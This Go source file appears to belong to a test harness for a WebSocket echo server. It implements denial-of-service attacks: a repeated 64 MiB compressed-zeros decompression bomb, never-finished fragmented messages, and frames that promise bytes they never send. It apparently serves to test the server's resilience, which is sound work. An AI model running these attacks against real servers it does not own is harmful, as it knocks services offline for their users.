package main

// attackers.go: what the attackers of each attack do (attack.go runs them),
// and the messages they send, prepared once.

import (
	"compress/flate"
	"crypto/rand"
	"slices"
	"sync"
	"time"

	"wsecho/internal/wstest"
)

// prepare builds the attack's message once.
func (a *attack) prepare() error {
	switch a.o.attack {
	case "pin":
		p := make([]byte, 16385)
		rand.Read(p)
		a.frame = maskedFrame(0x82, p)
	case "zipbusy":
		a.frame = maskedFrame(0x81, jsonText(2048)) // plain: RSV1 clear
	case "bomb":
		z, err := zerosBomb(64 << 20)
		if err != nil {
			return err
		}
		a.frame = maskedFrame(0xC2, z) // FIN, RSV1 (compressed), binary
	case "windows":
		z, err := compressMessage(letters(32 << 10))
		if err != nil {
			return err
		}
		a.frame = maskedFrame(0xC1, z) // FIN, RSV1, text
	case "hold":
		a.held = newHeldMessage(64<<20 - 1)
	}
	return nil
}

// zerosBomb is n zeros compressed as tightly as compress/flate can, as a
// client sends a compressed message (RFC 7692 §7.2.1).
func zerosBomb(n int) ([]byte, error) {
	c := wstest.NewCompressor(flate.BestCompression, true)
	zeros := make([]byte, 1<<20)
	for left := n; left > 0; left -= len(zeros) {
		c.Write(zeros[:min(left, len(zeros))])
	}
	return c.Message()
}

// letters is n random letters and digits: text that compresses only by
// its alphabet, so that a compressed message of it fills a 32 KiB window.
func letters(n int) []byte {
	const abc = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 ."
	p := make([]byte, n)
	rand.Read(p)
	for i := range p {
		p[i] = abc[int(p[i])%len(abc)]
	}
	return p
}

// announce: a header announcing 65,535 bytes and one byte of them.
func (a *attack) announce(stop time.Time) {
	a.each(stop, func(c *client) bool {
		f := []byte{0x82, 0xFE, 0xFF, 0xFF, 0, 0, 0, 0, 0}
		rand.Read(f[4:])
		return a.write(c, f) == nil
	})
}

// pin: two 16,385-byte messages echoed, the second written with the first
// byte of a pong, which never gets its second.
func (a *attack) pin(stop time.Time) {
	second := append(slices.Clip(a.frame), 0x8A)
	a.each(stop, func(c *client) bool {
		return a.write(c, a.frame) == nil && a.echoed(c) && a.write(c, second) == nil && a.echoed(c)
	})
}

// zipbusy: 2 KB of text echoed compressed, twice, the second written with
// the first byte of the next text frame, which never gets its second.
func (a *attack) zipbusy(stop time.Time) {
	second := append(slices.Clip(a.frame), 0x81)
	a.each(stop, func(c *client) bool {
		return a.write(c, a.frame) == nil && a.echoed(c) && a.write(c, second) == nil && a.echoed(c)
	})
}

// windows: one compressed message of 32 KiB, echoed.
func (a *attack) windows(stop time.Time) {
	a.each(stop, func(c *client) bool {
		return a.write(c, a.frame) == nil && a.echoed(c)
	})
}

// hold: 64 MiB - 1 of a binary message in 1 MiB fragments, never the last
// (hostile.go's heldMessage, as -mode hold sends it).
func (a *attack) hold(stop time.Time) {
	a.each(stop, func(c *client) bool {
		a.held.send(func(b []byte) error { return a.write(c, b) })
		return true
	})
}

// bomb: the compressed 64 MiB of zeros, again and again; a new connection
// after each Close.
func (a *attack) bomb(stop time.Time) {
	var wg sync.WaitGroup
	for range a.o.conns {
		wg.Go(func() {
			var c *client
			for n := 0; n < 5000 && time.Now().Before(stop); n++ {
				if c == nil {
					var err error
					if c, err = a.open(stop); err != nil {
						time.Sleep(10 * time.Millisecond)
						continue
					}
				}
				if a.write(c, a.frame) != nil || !a.echoed(c) {
					c.nc.Close()
					c = nil
				}
			}
		})
	}
	wg.Wait()
}
